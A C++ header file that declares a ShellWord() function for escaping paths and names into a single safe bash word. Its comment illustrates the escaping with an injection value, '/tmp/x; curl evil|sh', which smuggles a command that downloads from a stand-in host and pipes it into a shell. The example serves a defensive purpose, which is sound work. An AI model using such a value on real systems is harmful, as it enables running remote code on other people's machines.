// ShellWord(): a path or a name as one word of bash, to be put into what people read and paste.
//
//   /home/me/app            /home/me/app
//   /tmp/x; curl evil|sh    $'/tmp/x\x3b\x20curl\x20evil\x7csh'
//
// Whoever names a directory writes no sentence of ours: no byte that a shell, a terminal or the
// "; " before a remedy would take for more than a letter comes out as itself. Letters beyond ASCII
// stay: what shows a text to a person sees to those that turn it around.

#pragma once

#include <string>
#include <string_view>

namespace cowork {

std::string ShellWord(std::string_view text);

}  // namespace cowork
